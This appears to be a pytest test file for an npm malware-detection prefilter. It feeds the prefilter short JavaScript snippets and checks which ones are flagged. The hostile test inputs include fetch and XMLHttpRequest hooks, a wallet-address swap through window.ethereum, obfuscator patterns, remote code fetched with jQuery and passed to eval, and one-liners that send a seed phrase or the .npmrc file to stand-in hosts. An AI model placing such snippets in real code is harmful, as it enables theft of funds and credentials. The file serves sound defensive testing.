from __future__ import annotations

from base64 import b64encode

import pytest

from npmguard.detect.clause import ClauseKind
from npmguard.detect.prefilter import Prefilter
from npmguard.detect.rule import clauses_of, load_ruleset
from npmguard.detect.seldom import addresses_of
from tests.fixture_addresses import burn_address

RULESET = load_ruleset()
PREFILTER = Prefilter(RULESET)
ETHER = burn_address("eth", 0x31)
TRON = burn_address("trx", 0x31)
PATTERN = r"/0x[a-fA-F0-9]{40}/g"
HOOK = "window.fetch = async (...args) => change(await original(...args));"


def selects(*files: str) -> list[bool]:
    contents = [(f"{index}.js", text.encode()) for index, text in enumerate(files)]
    selected = PREFILTER.select(contents)
    return [path in selected for path, _ in contents]


@pytest.mark.parametrize(
    "code",
    [
        "export const add = (a, b) => a + b;",
        "fetch('https://api.example').then((response) => response.json());",
        "const original = window.fetch; export { original };",
        "export const swap = (text, to) => text.replace(/a/g, to).split('-').join('+'); state.data = 1;",
        "const commit = 'da39a3ee5e6b4b0d3255bfef95601890afd80709';",
        "const uuid = /^[0-9a-f]{4}-[0-9a-f]{2}$/;",
        "const wrong = '0x5aAeb6053F3E94C9b9A09f33669435E7Ef1BeAeD';",
        "const name = 'TSExpressionWithTypeArgumentsLists';",
        "/* fetch = hooked, {1: 2}, [a][b] */ const text = 'a' + 'b' + ['c', 'd'].join('');",
    ],
)
def test_ordinary_code_is_not_parsed(code: str) -> None:
    assert selects(code) == [False]


@pytest.mark.parametrize(
    "code",
    [
        f"const to = '{ETHER}';",
        f"const list = '{ETHER},{TRON}'.split(',');",
        f"const list = 'x\\n{TRON}\\n'.split('\\n');",
        f"const pattern = {PATTERN};",
        r"const pattern = new RegExp('0x[a-f0-9]{' + 40 + '}');",
        r"const pattern = /0x(?:[a-f0-9]{8}){5}/;",
        r"const pattern = /bc1[a-z0-9]+/;",
        "const pattern = /0x" + "[a-f0-9]" * 40 + "/;",
        "const pattern = /0x" + r"\w" * 40 + "/;",
        HOOK,
        HOOK.replace("window.fetch", "w['fetch']"),
        "Object.defineProperty(window, 'fetch', { value: hooked });",
        "XMLHttpRequest.prototype.send = function (body) { return send.call(this, body); };",
        "const a = _0x3f2a('0x1');",
    ],
)
def test_one_half_in_the_clear_is_enough(code: str) -> None:
    assert selects(code) == [True]


@pytest.mark.parametrize(
    "code",
    [
        f"const to = '{ETHER[:9]}' + '{ETHER[9:]}';",
        f"const to = ['{TRON[:9]}', '{TRON[9:]}'].join('');",
        f"const to = atob('{b64encode(TRON.encode()).decode()}');",
        f"const to = Buffer.from('{ETHER.encode().hex()}', 'hex').toString();",
        f"const to = '{TRON[::-1]}'.split('').reverse().join('');",
        f"const to = '\\x{ord(TRON[0]):02x}{TRON[1:]}';",
        f"const to = String.fromCharCode({', '.join(str(ord(char)) for char in TRON)});",
        "window['eth' + 'ereum']['requ' + 'est'] = async (call) => { call.params[0].to = await next(); };",
        r"window.ethereum['re\x71uest'] = async (call) => { call.params[0].to = await next(); };",
    ],
)
def test_what_is_built_at_run_time_is_seen(code: str) -> None:
    assert selects(code) == [True]


@pytest.mark.parametrize(
    "code",
    [
        "function t(){const e=['b','a'];return(t=function(){return e})()}",
        "function t(){var e=['b'];t=function(){return e};return t();}",
        "for(;;)try{if(9==parseInt(e(1))/1)break;r.push(r.shift())}catch(t){r.push(r.shift())}",
        r"while(!![]){a['\x70\x75\x73\x68'](a['\x73\x68\x69\x66\x74']())};parseInt(b);",
        "const u=function(n){while(--n){a['push'](a['shift']())}};",
        "const n='abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789+/=';",
        "eval(function(p,a,c,k,e,d){return p}('0',1,1,'x'.split('|'),0,{}))",
        "[][(![]+[])[+[]]+(!![]+[])[+[]]]",
        "o=String.fromCharCode(parseInt(s.substr(i,2),16)^k);",
        "for(;i<b.length;i++)b[i]^=k[i%k.length];",
        "const order='3|1|4|0|2'.split('|');",
        "return f.toString().search('(((.+)+)+)+$').toString().constructor(f);",
        "(function(){return!![]})['constructor']('debu'+'gger')['call']('action');",
        "[]['constructor']['constructor'](s)();",
    ],
)
def test_what_obfuscators_write_is_parsed_whatever_its_names_are(code: str) -> None:
    assert selects(code) == [True]


@pytest.mark.parametrize(
    "code",
    [
        "queue.push(queue.shift()); const n = parse(text);",
        "function _templateObject(){const a=tag(['x']);return _templateObject=function(){return a},a}",
        "const digits = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/';",
        "evaluate(function () { return 1 }); const c = x.constructor;",
        "text += String.fromCharCode(parseInt(hex, 16));",
    ],
)
def test_what_only_looks_a_bit_like_it_is_not(code: str) -> None:
    assert selects(code) == [False]


def test_another_file_completes_a_rule_for_the_package() -> None:
    hook = "self.onpaste = (event) => { event.preventDefault(); };"
    table = f"exports.table = ['{ETHER}', '{TRON}', '{burn_address('btc-legacy', 0x31)}'];"
    patterns = f"exports.patterns = [{PATTERN}];"
    choice = "exports.nearest = (text, list) => list.sort((a, b) => far(text, a) - far(text, b))[0];"
    assert selects(choice) == [False]
    assert selects(hook, table, patterns, choice) == [True, True, True, True]


def test_a_file_that_may_hide_its_hook_is_parsed_beside_addresses() -> None:
    hidden = "const w = globalThis; w[['fe', 'tch'].map(String).join('')] = (text) => text;"
    assert selects(hidden) == [False]
    assert selects(hidden, f"module.exports = '{ETHER}';") == [True, True]


def test_only_addresses_with_right_checksums_count() -> None:
    wrong = TRON[:-1] + ("a" if TRON[-1] != "a" else "b")
    assert addresses_of(f"'{TRON}' \"{ETHER}\" `{wrong}`".encode()) == {TRON.lower(), ETHER.lower()}


def test_a_solana_address_counts_only_where_it_stands_alone() -> None:
    solana = burn_address("sol", 0x31)
    assert addresses_of(f"'{solana}'".encode())
    assert not addresses_of(f"'data:application/wasm;base64,{solana}/AAA='".encode())


def test_no_files_and_empty_files() -> None:
    assert PREFILTER.select([]) == frozenset()
    assert selects("") == [False]


def test_no_rule_asks_for_every_text() -> None:
    """One that did would have every string of every file drawn, which takes as long as all else."""
    asked = [
        (signal.id, clause.value)
        for signal in RULESET.signals.values()
        for clause in clauses_of(signal.match)
        if clause.kind is ClauseKind.STRING and clause.value is not None
    ]
    assert [name for name, test in asked if not (test.equals or test.contains or test.address)] == []


@pytest.mark.parametrize(
    "hooked",
    [
        "window.fetch = null || hook",
        "window.fetch = void 0 || hook",
        "window.fetch = '' || hook",
        "window.fetch = 'on' && hook",
        "window.fetch = hook",
        "window.fetch = hook\n",
        "window.fetch = on ? hook : 'off'",
        "window.fetch = on ? 'off' : hook",
        "window.fetch = on.x ? 'off' : 'on' && hook",
        "window.fetch = on ? 'off'.length ? hook : 1 : 2",
        "window.fetch = on?.hook ?? hook",
        "window.fetch = async function () { return hook() }",
        "window.fetch = new Proxy(fetch, { apply: hook })",
        "window.fetch=hook,0",
        "window.fetch = \\u0068ook",
        "const p = XMLHttpRequest.prototype; Object.defineProperty(p, 'open', { value: hook })",
    ],
)
def test_a_hook_counts_where_the_addresses_are_hidden_whatever_stands_before_it(hooked: str) -> None:
    listed = b64encode(ETHER.encode()).decode()

    assert selects(f"const list = atob('{listed}'); const hook = async (...a) => swap(a, list); {hooked};") == [
        True
    ]


def test_a_short_text_under_the_name_of_a_function_is_no_hook() -> None:
    assert selects("const seen = {}; seen.fetch = 'get'; other.fetch = null; exports.fetch = void 0;") == [
        False
    ]
    assert selects("function f(seen, stale) { if (seen) seen.fetch = stale ? 'stale' : 'refresh'; }") == [False]


@pytest.mark.parametrize(
    "asked",
    [
        "jQuery.get(a, run)",
        "jQuery\n  .getJSON(a, run)",
        "jQuery['post'](a, run)",
        "jQuery?.ajax(a, run)",
        "(function ($) { $.get(a, run) })(jQuery)",
        "const $ = jQuery\n$.get(a, run)",
        "window['jQuery'].get(a, run)",
        "const { get } = jQuery, b = 1; get(a, run)",
    ],
)
def test_what_jquery_fetches_may_be_run(asked: str) -> None:
    code = f"const a = 'https://cdn.example/a'; const run = (text) => eval(text); {asked};"

    assert selects(code) == [True]


def test_jquery_in_a_comment_fetches_nothing() -> None:
    told = "// options: as `jQuery` does it, see https://docs.example/"

    assert selects(f"{told}\nconst compiled = Function('a', source); export default compiled;") == [False]


@pytest.mark.parametrize(
    "code",
    [
        "const n = 'node:h' + 'ttps'; const m = require(n); m.request = hook(process.env)",
        "const k = 'mnem' + 'onic'; fetch('https://a.example', {method: 'POST', body: localStorage[k]})",
        "const d = require('fs').readFileSync('/.np' + 'mrc'); require('https').request({}).end(d)",
    ],
)
def test_half_may_be_built_and_half_be_there_whoever_compiled_the_conditions(code: str) -> None:
    taking = Prefilter(RULESET)
    assert taking.take(PREFILTER.compiled())
    alone = code.replace("' + '", "' && '")
    for prefilter in (PREFILTER, taking):
        assert prefilter.select([("a.js", code.encode())])
        assert not prefilter.select([("a.js", alone.encode())])


@pytest.mark.parametrize("content", [b"", b"\0", b"\xff" * 90, bytes(8)])
def test_refuses_what_it_did_not_compile(content: bytes) -> None:
    prefilter = Prefilter(RULESET)

    assert not prefilter.take(content)
